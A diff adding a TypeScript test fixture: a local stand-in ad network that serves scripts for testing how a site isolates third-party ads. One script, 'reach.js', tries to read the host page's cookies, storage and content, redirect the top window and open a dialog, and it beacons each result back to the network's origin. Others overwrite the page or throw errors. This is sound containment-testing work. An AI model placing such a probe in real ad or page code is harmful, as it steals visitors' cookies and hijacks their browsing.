@@ -1,0 +1,76 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+/** Stands in for an advertising network, on this machine. */
+export interface AdNetwork extends AsyncDisposable {
+  url: string;
+  /** As an operator lists it. */
+  source: string;
+  /** What browsers have asked for, query included, and what they sent along. */
+  asked: () => { path: string; cookie: string | undefined }[];
+  /** What its scripts have told, by name. */
+  told: () => Record<string, string>;
+}
+
+/** Puts a link with words where the format's code runs, as a network's script does. */
+const showing = `(() => {
+  const { searchParams, origin } = new URL(document.currentScript.src);
+  const name = searchParams.get('name');
+  const box = document.createElement('p');
+  const link = Object.assign(document.createElement('a'), { href: origin + '/landing', target: '_blank', textContent: 'Tea for ' + name });
+  box.append(link);
+  const put = () => (document.querySelector('#slot-' + name) ?? document.body).append(box);
+  if (document.body) put(); else addEventListener('DOMContentLoaded', put);
+})();`;
+
+/** Tries to reach the site from where it runs, and tells what came of each try. */
+const reaching = `(async () => {
+  const { origin } = new URL(document.currentScript.src);
+  const tries = {
+    page: () => top.document.title, cookie: () => document.cookie, storage: () => localStorage.length,
+    session: async () => (await fetch('/api/index/index')).status, lead: () => { top.location = origin + '/landing'; return 'led'; },
+    ask: () => confirm('Well?'), parent: () => parent.document.body.innerHTML.length,
+  };
+  for (const [name, attempt] of Object.entries(tries)) {
+    const result = await Promise.resolve().then(attempt).then((value) => 'got ' + value, (error) => 'refused ' + error.name);
+    new Image().src = origin + '/told?name=' + name + '&result=' + encodeURIComponent(result);
+  }
+  new Image().src = origin + '/told?name=end&result=end';
+})();`;
+
+/** By the last part of the address; `never` answers nothing. */
+const scripts: Record<string, string> = {
+  'show.js': showing, 'reach.js': reaching,
+  'throw.js': 'throw new Error("the network is broken")',
+  'reject.js': 'Promise.reject(new Error("the network is broken"))',
+  'write.js': 'document.write("<h1>Written over</h1>"); document.close();',
+  'dialogs.js': 'alert("Look"); confirm("Look"); prompt("Look");',
+  'syntax.js': 'let a = ; }}',
+};
+
+export const openAdNetwork = async (): Promise<AdNetwork> => {
+  const asked: { path: string; cookie: string | undefined }[] = [];
+  const told: Record<string, string> = {};
+  const server = createServer((request, reply) => {
+    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://x');
+    asked.push({ path: request.url ?? '', cookie: request.headers.cookie });
+    const name = pathname.slice(1);
+    if (name === 'never.js') return;
+    if (name === 'told') told[searchParams.get('name') ?? ''] = searchParams.get('result') ?? '';
+    const script = scripts[name];
+    if (script !== undefined) reply.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store', 'set-cookie': 'tracked=1' }).end(script);
+    else if (name === 'told' || name === 'landing') reply.writeHead(200, { 'content-type': 'text/html' }).end('<title>Landing</title>');
+    else reply.writeHead(404).end();
+  });
+  await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve); });
+  const source = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return {
+    url: source, source, asked: () => [...asked], told: () => ({ ...told }),
+    async [Symbol.asyncDispose]() {
+      server.closeAllConnections();
+      await new Promise((resolve) => { server.close(resolve); });
+    },
+  };
+};
+
+export const script = (network: AdNetwork, file: string): string => `<script src="${network.url}/${file}"></script>`;
